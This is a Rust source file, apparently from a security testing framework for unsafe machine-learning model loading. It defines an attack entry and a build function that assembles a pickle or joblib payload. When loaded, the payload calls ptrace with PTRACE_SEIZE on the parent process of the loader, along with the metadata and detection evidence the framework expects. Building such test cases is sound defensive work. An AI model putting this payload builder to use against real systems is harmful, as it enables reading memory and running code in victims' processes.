//! Taking hold of whoever started the loader.

use super::*;

use crate::pickle::Op;

/// PTRACE_SEIZE of the parent, which does not even stop it.
pub const ATTACK: Attack = Attack {
    id: "ptrace-parent",
    title: "ptrace of the parent process",
    summary: "The loader asks to trace the process that started it: with that it could read its \
              memory, and run code in it. Nothing more is asked, and the hold ends with the \
              loader.",
    severity: Severity::High,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[techniques::PTRACE_SYSTEM_CALLS, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502],
    references: &[
        Reference {
            title: "Python documentation: ctypes",
            url: "https://docs.python.org/3/library/ctypes.html",
        },
        Reference {
            title: "Linux manual: ptrace(2)",
            url: "https://man7.org/linux/man-pages/man2/ptrace.2.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Happened(EventKind::Trace, "")],
        policy: &[Evidence { kind: EventKind::Trace, text: "" }],
    },
    quick: false,
};

fn build(_: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    payload::file(ATTACK.id, target, |assembler| {
        payload::native(assembler, "ptrace", |assembler| {
            // PTRACE_SEIZE
            assembler.int(0x4206);
            payload::parent(assembler);
            assembler.op(Op::None).op(Op::None);
        });
    })
}
